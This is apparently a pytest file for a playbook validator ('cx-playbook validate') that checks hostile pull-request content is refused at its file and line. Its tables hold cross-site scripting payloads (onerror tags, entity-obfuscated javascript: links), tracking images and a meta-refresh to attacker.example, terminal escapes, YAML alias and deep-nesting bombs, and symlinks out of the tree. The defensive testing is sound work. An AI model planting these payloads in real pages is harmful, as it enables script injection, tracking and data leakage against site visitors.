"""Hostile content in a pull request: every case is refused at its file and line, quickly.

One table per class of attack. Each case changes one field of the small valid playbook the way an
attacker would, and expects `cx-playbook validate` to name the place and the reason."""

from __future__ import annotations

import errno
import html
import os
import re
import subprocess
import sys
from pathlib import Path

import pytest

from cx_playbook.errors import ContentError
from cx_playbook.markup import DEFAULT_EXTENSIONS, MarkdownRules, judge_markdown
from cx_playbook.text import escape_markdown
from cx_playbook.validation import load_playbook
from helpers import QUIZ, edit

PRINCIPLE = "principles/customer-defines-value.yaml"
TECHNIQUE = "techniques/moments-of-truth.yaml"
BODY_ANCHOR = "  See [["  # the body's second paragraph starts here, on line 8 of the principle


def problems(root: Path, quizzes: Path | None = None, docs: Path | None = None) -> list[str]:
    with pytest.raises(ContentError) as caught:
        load_playbook(root, quizzes, docs=docs)
    return [str(problem) for problem in caught.value.problems]


def with_body(playbook: Path, markdown: str, quizzes: Path | None = None) -> list[str]:
    """Problems after ``markdown`` (a YAML double-quoted string's content) is put in the body."""
    edit(playbook / PRINCIPLE, "body: |\n  The customer, not the organisation, decides what counts.\n\n  See [[techniques/moments-of-truth]] for how to act on it.\n",
         f'body: "{markdown}"\n')
    return problems(playbook, quizzes)


# --- The Markdown is judged by the HTML it becomes --------------------------------------------

IMG = "<img src=x onerror=alert(1)>"
MARKDOWN_BECOMES = {
    "escaped backtick before a tag": f"\\\\`{IMG}`",
    "code span across a blank line": f"`a\\n\\n{IMG}`",
    "code span inside an HTML block": f"<div>`{IMG}`</div>",
    "unclosed fence": f"```\\n{IMG}",
    "fence closed at another indent": f"```\\ncode\\n    ```\\n\\n{IMG}",
    "comment that is not one to browsers": f"x <!--> {IMG} -->",
    "scheme hidden by a named reference": "[a](javascript&colon;alert(1))",
    "scheme hidden by a numeric reference": "[a](&#x6A;avascript:alert(1))",
    "scheme split by a tab reference": "[a](java&Tab;script:alert(1))",
    "reference definition with an encoded scheme": "[a][r]\\n\\n[r]: &#x6A;avascript:alert(1)",
    "carriage return hiding a reference definition": "[a][r]\\r[r]: javascript:alert(1)",
    "image from another host": "![x](https://attacker.example/pixel.png)",
    "image from another host, scheme-relative": "![x](//attacker.example/pixel.png)",
    # A browser drops tabs and line breaks from an address, trims spaces and reads '\\' as '/'.
    "image from another host behind a leading space": '<img src=\\" //attacker.example/pixel.png\\">',
    "image from another host behind an encoded tab": "![x](/&#9;/attacker.example/pixel.png)",
    "image from another host behind a backslash": "![x](/\\\\attacker.example/pixel.png)",
    "posing as a quiz": '<div class=\\"cx-quiz\\">x</div>',
    "posing as the theme's configuration": '<div id=\\"__config\\">x</div>',
}


@pytest.mark.parametrize("markdown", MARKDOWN_BECOMES.values(), ids=MARKDOWN_BECOMES.keys())
def test_markdown_that_becomes_unsafe_html_is_refused_at_its_field(playbook_dir, markdown):
    [problem] = with_body(playbook_dir, markdown)
    assert problem.startswith(f"playbook/{PRINCIPLE}:")
    assert ": body: " in problem
    assert any(word in problem for word in ("is rejected", "not allowed", "never closed")), problem


# --- A field is one piece of a page: nothing it leaves open or defines may reach the rest ------

PAGE_PIECES = {
    "a tag left open for the next field to finish": 'A meeting <meta http-equiv=\\"refresh\\" content=\\"0;url=https://attacker.example/?',
    "a block tag left open across the page": '<div title=\\"',
    "a comment left open": "Text <!-- the rest of the page",
    "a reference definition for another field's link": "Text.\\n\\n[evil]: javascript:alert(1)",
    "a reference definition for another field's image": "Text.\\n\\n[pixel]: //attacker.example/pixel.png",
    "an abbreviation definition for the whole page": "Text.\\n\\n*[MOT]: &lt;img src=x onerror=alert(1)&gt;",
}


@pytest.mark.parametrize("markdown", PAGE_PIECES.values(), ids=PAGE_PIECES.keys())
def test_what_a_field_leaves_open_or_defines_for_the_page_is_refused(playbook_dir, markdown):
    [problem] = with_body(playbook_dir, markdown)
    assert problem.startswith(f"playbook/{PRINCIPLE}:") and ": body: " in problem
    assert "not allowed" in problem, problem


def test_a_footnote_defined_in_a_field_is_refused_where_the_site_has_footnotes():
    rules = MarkdownRules([*DEFAULT_EXTENSIONS, "footnotes"])
    found = judge_markdown("Text.\n\n[^1]: <b>bold</b>", rules)
    assert found is not None and found.rule == "page_wide_definition" and found.line == 3
    assert judge_markdown("Text with a note.[^1]\n\n[^1]: The note.", rules) is not None


# Extensions a site may add to its Markdown: what they write is judged like the rest.
SITE_EXTENSIONS = {
    "an element written by pymdownx.blocks.html": ("pymdownx.blocks.html", "/// html | script\nalert(1)\n///"),
    "a tab set of pymdownx.tabbed": ("pymdownx.tabbed", '=== "Tab"\n\n    Text.'),
}


@pytest.mark.parametrize(("extension", "markdown"), SITE_EXTENSIONS.values(), ids=SITE_EXTENSIONS.keys())
def test_what_a_sites_own_markdown_extensions_write_is_judged_too(extension, markdown):
    found = judge_markdown(markdown, MarkdownRules([*DEFAULT_EXTENSIONS, extension]))
    assert found is not None and found.rule == "unsafe_markup" and "not allowed" in found.reason


EMBEDS_OUT_OF_PLACE = {
    "inside an attribute": r"<details title='\n{{ quiz(\"moments-check\") }}\n'><summary>s</summary></details>",
    "inside a sentence": r"See {{ quiz(\"moments-check\") }} for a check.",
    "indented into an admonition": r"!!! note\n\n    {{ quiz(\"moments-check\") }}",
}


@pytest.mark.parametrize("markdown", EMBEDS_OUT_OF_PLACE.values(), ids=EMBEDS_OUT_OF_PLACE.keys())
def test_a_quiz_embed_stands_on_a_line_of_its_own(quizzes_dir, markdown):
    """The quiz's own markup, with its answer key, would break out of an attribute it landed in."""
    [problem] = with_body(quizzes_dir.parent / "playbook", markdown, quizzes_dir)
    assert problem.startswith(f"playbook/{PRINCIPLE}:") and 'body: a {{ quiz("…") }} embed must stand at the start of a line of its own' in problem


def test_a_quiz_embed_on_a_line_of_its_own_is_accepted(quizzes_dir):
    playbook = quizzes_dir.parent / "playbook"
    edit(playbook / PRINCIPLE, "  See [[", '  {{ quiz("moments-check") }}\n\n  See [[')
    assert load_playbook(playbook, quizzes_dir).entries


# --- Attributes that Material's tooltips would turn into markup -------------------------------

ENCODED = "&lt;img src=x onerror=alert(1)&gt;"
TOOLTIPS = {
    "link title": f'[a](https://example.org \\"{ENCODED}\\")',
    "span title": f"<span title='{ENCODED}'>x</span>",
    "abbreviation in a body": f"*[XYZ]: {ENCODED}\\n\\nXYZ",
    "attribute list breaking out of its quotes": 'Text\\n{: title=\\"}\\" onmouseover=\\"alert(1)\\" }',
}


@pytest.mark.parametrize("markdown", TOOLTIPS.values(), ids=TOOLTIPS.keys())
def test_titles_that_would_become_markup_on_hover_are_refused(playbook_dir, markdown):
    [problem] = with_body(playbook_dir, markdown)
    assert problem.startswith(f"playbook/{PRINCIPLE}:") and "body: " in problem


def test_a_glossary_definition_cannot_carry_an_encoded_tag(playbook_dir):
    edit(playbook_dir / "glossary.yaml", "definition: A point where a customer meets the organisation.", f'definition: "{ENCODED}"')
    assert problems(playbook_dir) == [
        "playbook/glossary.yaml:3:15: [0].definition: must be plain text: write the character itself, not the HTML reference '&lt;'"
    ]


# --- Plain text is refused when no escaping could keep it plain, and escaped otherwise ---------

PLAIN = {
    "carriage return opening an admonition in a title": (PRINCIPLE, "title: Customers define value", 'title: "Value\\r!!! danger \\"x\\""', "1:8: title: "),
    "carriage return opening a fence in a summary": (PRINCIPLE, "summary: Value is what the customer says it is.", 'summary: "Value.\\r```"', "2:10: summary: "),
    "next-line character in a title": ("tenets/customers-first.yaml", "title: Customers first", 'title: "Customers\\x85first"', "1:8: title: "),
    "line separator in an organisation": ("case-studies/easyjet-bums-on-seats.yaml", "organisation: Easyjet", 'organisation: "Easy\\u2028jet"', "3:15: organisation: "),
    "escape sequence in an industry": ("case-studies/easyjet-bums-on-seats.yaml", "industry: Airlines", 'industry: "\\e[2J"', "4:11: industry: "),
}


@pytest.mark.parametrize(("file", "old", "new", "where"), PLAIN.values(), ids=PLAIN.keys())
def test_control_characters_in_plain_text_are_refused(playbook_dir, file, old, new, where):
    edit(playbook_dir / file, old, new)
    [problem] = problems(playbook_dir)
    assert problem.startswith(f"playbook/{file}:{where}must be one line of plain text")


# What opens a block at a line's start, in the site's Markdown and in extensions Material's sites
# often add (tabs, footnotes). A summary, a definition or a statement starts a line on its page.
BLOCK_STARTS = [
    '??? danger "Your account is suspended"', '???+ note "Open"', '=== "A tab"', '!!! danger "x"', ": a definition", "# x", "> x", "- x",
    "+ x", "* x", "1. x", "1) x", "***", "---", "| a | b |", "[x]: https://example.org", "*[X]: y", "[^1]: y", "```", "~~~",
]


@pytest.mark.parametrize("text", BLOCK_STARTS)
def test_plain_text_at_a_line_start_stays_one_plain_paragraph(text):
    rendered = MarkdownRules([*DEFAULT_EXTENSIONS, "pymdownx.tabbed", "footnotes"]).render(escape_markdown(text))
    assert re.fullmatch(r"<p>[^<]*</p>", rendered) and html.unescape(rendered[3:-4]) == text, rendered


@pytest.mark.parametrize(
    "url",
    ["https://example.org/)<img/src/onerror=alert(1)>", 'https://example.org/" onmouseover="x', "javascript:alert(1)", "https://user:pw@example.org/", "https://exa mple.org"],
)
def test_a_source_address_must_be_a_plain_web_address(playbook_dir, url):
    with (playbook_dir / "sources.yaml").open("a", encoding="utf-8") as sources:
        sources.write(f"  url: '{url}'\n")
    [problem] = problems(playbook_dir)
    assert problem.startswith("playbook/sources.yaml:5:8: [0].url: ")


def test_a_matching_pair_with_a_carriage_return_is_refused(quizzes_dir):
    edit(quizzes_dir / "moments-check.yaml", "      - term: SCO", '      - term: "SCO\\r| x |"')
    [problem] = problems(quizzes_dir.parent / "playbook", quizzes_dir)
    assert problem.startswith("quizzes/moments-check.yaml:44:15: questions[4].pairs[0].term: must be one line of plain text")


# --- Loose ends -------------------------------------------------------------------------------


def test_an_unknown_quiz_embed_fails_validation_in_an_entry_and_in_a_page(quizzes_dir, tmp_path):
    playbook = quizzes_dir.parent / "playbook"
    edit(playbook / PRINCIPLE, BODY_ANCHOR, '  {{ quiz("no-such-quiz") }}\n\n  See [[')
    docs = tmp_path / "docs"
    docs.mkdir()
    (docs / "index.md").write_text('# Home\n\n{{ quiz("moments-chek") }}\n', encoding="utf-8")
    assert problems(playbook, quizzes_dir, docs) == [
        "docs/index.md:3:1: no quiz 'moments-chek' in quizzes/ (did you mean 'moments-check'?)",
        f"playbook/{PRINCIPLE}:8:3: body: no quiz 'no-such-quiz' in quizzes/",
    ]


def test_an_entry_cannot_list_itself_as_related(playbook_dir):
    edit(playbook_dir / PRINCIPLE, "related: [tenets/customers-first]", "related: [tenets/customers-first, principles/customer-defines-value]")
    [problem] = problems(playbook_dir)
    assert problem.startswith(f"playbook/{PRINCIPLE}:") and "is this entry itself" in problem


def test_symbolic_links_out_of_the_playbook_are_refused(playbook_dir, tmp_path):
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "secret.yaml").write_text("title: x\n", encoding="utf-8")
    (playbook_dir / "techniques/secret.yaml").symlink_to(outside / "secret.yaml")
    (playbook_dir / "more").symlink_to(outside, target_is_directory=True)
    assert problems(playbook_dir) == [
        "playbook/more:1:1: is a symbolic link to outside the playbook: copy the file in instead",
        "playbook/techniques/secret.yaml:1:1: is a symbolic link to outside the playbook: copy the file in instead",
    ]


def test_the_id_index_is_reserved_with_a_clear_reason(playbook_dir):
    (playbook_dir / "techniques/index.yaml").write_text((playbook_dir / TECHNIQUE).read_text(encoding="utf-8"), encoding="utf-8")
    assert problems(playbook_dir) == ["playbook/techniques/index.yaml:1:1: 'index' is reserved for the folder's index page: choose another id"]


# --- Hostile YAML: a problem at a place, never a traceback or a hang --------------------------

HOSTILE_FILES = {
    "complex key before a duplicate key": ("? [a, b]\n: 1\ntitle: x\ntitle: y\n", "duplicate key 'title'"),
    "a 5,000-digit number": ("number: " + "1" * 5000 + "\n", "a number of 5000 digits is too long"),
    "nested without end": ("title: " + "[" * 5000 + "\n", "YAML"),
    "aliases that multiply": ("a: &a [x, x, x, x, x, x, x, x, x]\nb: &b [*a, *a, *a, *a, *a, *a, *a, *a]\nc: [*b, *b, *b, *b, *b, *b, *b, *b]\n", "aliases"),
    "a body of 120 KB of unclosed tags": ("body: '" + "<a " * 40_000 + "'\n", "at most 20000 characters"),
    "a body of 120 KB of braces": ("body: '" + "{====" * 24_000 + "'\n", "at most 20000 characters"),
    "a body just under the limit of unclosed tags": ("body: '" + "<a " * 6_600 + "'\n", "more than 400 '<' characters"),
    "a body just under the limit of unclosed links": ("body: '" + "[a](" * 4_900 + "'\n", "more than 600 '[' characters"),
    "a body just under the limit of unclosed images": ("body: '" + "![x](" * 3_900 + "'\n", "more than 600 '[' characters"),
    "a body just under the limit of code fences": ("body: |\n" + "  ~~~\n" * 3_000, "more than 1000 '~' characters"),
    # Python-Markdown recurses per level: these stopped the build with a RecursionError.
    "a list nested 5,000 deep": ("body: '" + "- " * 5_000 + "x'\n", "nested more than 80 columns deep"),
    "a numbered list nested 3,000 deep": ("body: '" + "1. " * 3_000 + "x'\n", "nested more than 80 columns deep"),
    "3,000 definitions": ("body: |\n" + "  a\n  : b\n" * 3_000, "more than 200 definitions"),
    # Each heading's id is made unique by trying suffixes one by one: 5,000 took seconds.
    "5,000 headings": ("body: |\n" + "  a\n  -\n" * 5_000, "more than 200 headings"),
    "terminal escapes and line breaks in a key": ('"\\e[2J\\nplaybook/x.yaml:1:1: forged": 1\n', "unknown field '\\x1b[2J\\nplaybook"),
}


@pytest.mark.parametrize(("text", "expected"), HOSTILE_FILES.values(), ids=HOSTILE_FILES.keys())
def test_hostile_yaml_gives_a_problem_at_a_place(playbook_dir, text, expected):
    (playbook_dir / TECHNIQUE).write_text(text, encoding="utf-8")
    result = subprocess.run(
        [sys.executable, "-m", "cx_playbook.cli", "validate", str(playbook_dir)], capture_output=True, text=True, timeout=60,
        cwd=playbook_dir.parent,
    )
    assert result.returncode == 1, result.stderr
    assert "Traceback" not in result.stderr
    lines = result.stderr.splitlines()
    assert all(line.startswith("playbook/") for line in lines[:-1]), lines
    assert expected in result.stderr
    assert "\x1b" not in result.stderr, "a file's bytes reached the terminal raw"


def test_a_text_too_deep_to_render_leaves_the_next_one_rendered_right():
    """A RecursionError leaves Python-Markdown's parser half-way through a block: the next field
    rendered with it came out wrong, or not at all."""
    rules = MarkdownRules()
    with pytest.raises(RecursionError):
        rules.render("a\n: b\n" * 3_000)
    assert rules.render("A paragraph.\n{: .note }") == '<p class="note">A paragraph.</p>'


def test_folders_pipes_and_broken_links_where_files_belong(playbook_dir):
    (playbook_dir / "glossary.yaml").unlink()
    (playbook_dir / "glossary.yaml").mkdir()
    os.mkfifo(playbook_dir / "techniques/waiting.yaml")
    (playbook_dir / "principles/gone.yaml").symlink_to(playbook_dir / "nowhere.yaml")
    (playbook_dir / "tenets/loop.yaml").symlink_to(playbook_dir / "tenets/loop.yaml")
    assert problems(playbook_dir) == [
        "playbook/glossary.yaml:1:1: is a folder, where a YAML file was expected",
        "playbook/principles/gone.yaml:1:1: is a broken or looping symbolic link",
        "playbook/techniques/waiting.yaml:1:1: not an entry file: entries are '<id>.yaml'",
        "playbook/tenets/loop.yaml:1:1: is a broken or looping symbolic link",
    ]


def test_a_file_or_folder_that_cannot_be_read_is_a_problem_at_its_place(playbook_dir, monkeypatch):
    """Permissions are simulated: the tests may run as root, whom no file refuses."""
    unreadable = {playbook_dir / "tenets/customers-first.yaml", playbook_dir / "techniques"}

    def refusing(method):
        def refuse(path, *args, **kwargs):
            if path in unreadable:
                raise PermissionError(errno.EACCES, "Permission denied", str(path))
            return method(path, *args, **kwargs)
        return refuse

    monkeypatch.setattr(Path, "read_text", refusing(Path.read_text))
    monkeypatch.setattr(Path, "iterdir", refusing(Path.iterdir))
    found = problems(playbook_dir)
    assert "playbook/techniques:1:1: cannot be read: Permission denied" in found
    assert "playbook/tenets/customers-first.yaml:1:1: cannot be read: Permission denied" in found


def test_quiz_file_text_is_refused_like_an_entrys(quizzes_dir):
    edit(quizzes_dir / "moments-check.yaml", "    prompt: Which is a Moment of Truth?", f'    prompt: "Which is it? {IMG}"')
    [problem] = problems(quizzes_dir.parent / "playbook", quizzes_dir)
    assert problem.startswith("quizzes/moments-check.yaml:9:13: questions[0].prompt: the 'onerror' attribute is not allowed")
    assert QUIZ  # the quiz above is the shared one with every question type
